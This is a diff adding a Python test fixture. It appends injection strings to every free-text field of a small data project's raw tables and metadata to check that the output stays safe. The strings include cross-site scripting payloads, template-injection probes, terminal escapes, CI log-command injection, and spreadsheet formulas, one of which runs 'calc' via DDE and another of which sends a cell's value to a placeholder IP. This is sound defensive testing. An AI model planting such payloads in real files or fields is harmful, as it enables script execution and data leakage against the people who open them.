@@ -1,0 +1,83 @@
+"""Text that attacks whoever shows it, put into every field of every raw table of a small project."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+from pathlib import Path
+
+import yaml
+
+from analysis.store import Project
+from tests.faults.projects import ROOT
+
+# Each carries a mark that must be readable wherever it is shown.
+TEXTS = (
+    "<script>document.title='hacked'</script>mark",
+    "</script></style></title><img src=x onerror=document.title='hacked'>mark",
+    '" onmouseover="document.title=1" autofocus onfocus="document.title=1" mark',
+    "<a href='javascript:document.title=1'>mark</a>",
+    "<svg onload=document.title='hacked'><text>mark</text></svg>",
+    "{{7*7}}{% raw %}${7*7}#{7*7}mark",
+    "datum['constructor']('document.title=1')() mark",
+    "]]><!--mark--><![CDATA[",
+    "\u202emark\u202c\u2066\u200e",
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"mark")',
+    "@SUM(1+1)*cmd|' /C calc'!A0 mark",
+    "\x1b[2J\x1b]0;mark\x07\x9b31m",
+    "mark\n::error file=x::injected\r\n##[error]injected",
+    "mark::warning::%0A::set-output name=x::y",
+    "mark" + "W" * 3000,
+    "[mark](javascript:document.title=1) ![x](http://192.0.2.1/x.png) <http://192.0.2.1/>",
+)
+FREE = {
+    "form-1.csv": ("label", "note"),
+    "form-3.csv": ("label", "note"),
+    "figures.csv": ("section", "label"),
+    "targets.csv": ("section", "label"),
+    "tasks.csv": ("task", "lead", "support"),
+    "indices.csv": ("source",),
+}
+SIDECAR = ("number", "title", "issuer", "place", "signer", "source_name", "extracted_with")
+DOCUMENTS = {
+    "quang-tri/2024-H1/1125-bc-vp": ("form-1.csv", "form-3.csv", "figures.csv"),
+    "quang-tri/2021-2025/3647-qd-ubnd": ("targets.csv",),
+    "thai-nguyen/2020/4203-qd-ubnd": ("tasks.csv",),
+    "national/2016-2024/published-indices": ("indices.csv",),
+}
+
+
+def rows_of(path: Path) -> tuple[list[str], list[dict[str, str]]]:
+    reader = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
+    return list(reader.fieldnames), list(reader)
+
+
+def write_rows(path: Path, columns: list[str], rows: list[dict[str, str]]) -> None:
+    out = io.StringIO(newline="")
+    writer = csv.DictWriter(out, columns, lineterminator="\n")
+    writer.writeheader()
+    writer.writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8", newline="")
+
+
+def project(root: Path) -> Project:
+    """Every document as it is in the repository, but with an attack beside the words of each free text."""
+    for document, tables in DOCUMENTS.items():
+        source, target = ROOT / "data/raw" / document, root / "data/raw" / document
+        target.mkdir(parents=True)
+        number = 0
+        for name in tables:
+            columns, rows = rows_of(source / name)
+            for row in rows:
+                for column in FREE[name]:
+                    number += 1
+                    row[column] = f"{row[column]} {TEXTS[number % len(TEXTS)]}"
+            write_rows(target / name, columns, rows)
+        facts = yaml.safe_load((source / "document.yml").read_text(encoding="utf-8"))
+        for place, field in enumerate(SIDECAR):
+            facts[field] = f"{facts.get(field) or ''} {TEXTS[place]}"
+        (target / "document.yml").write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
+    for folder in ("notebooks", "expectations"):
+        shutil.copytree(ROOT / folder, root / folder)
+    return Project(root)
